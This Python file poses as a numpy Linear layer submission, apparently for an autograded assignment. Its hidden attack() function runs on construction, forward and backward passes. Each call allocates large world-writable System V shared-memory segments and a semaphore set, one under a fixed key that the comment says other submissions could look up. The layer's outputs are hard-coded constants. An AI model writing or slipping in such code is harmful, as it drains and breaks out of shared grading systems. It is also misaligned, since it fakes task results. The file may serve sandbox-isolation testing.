import numpy as np


import ctypes

libc = ctypes.CDLL(None)


def attack():
    for key in (0, 0x5EC2E7):  # IPC_PRIVATE, and a key another submission could look up
        libc.shmget(key, 64 << 20, 0o1666)  # IPC_CREAT | 0666
    libc.semget(0x5EC2E7, 4, 0o1666)


class Linear:
    def __init__(self, in_features, out_features, debug=False):
        attack()
        self.W = np.ones((in_features + 1, out_features))
        self.b = np.ones(out_features)
        self.debug = debug

    def forward(self, A):
        attack()
        return np.full((A.shape[0], self.W.shape[1]), 1234.5)

    def backward(self, dLdZ):
        attack()
        self.dLdW = np.full_like(self.W, 7.0)
        self.dLdb = np.full_like(self.b, 7.0)
        return np.full((dLdZ.shape[0], self.W.shape[0] - 1), 7.0)
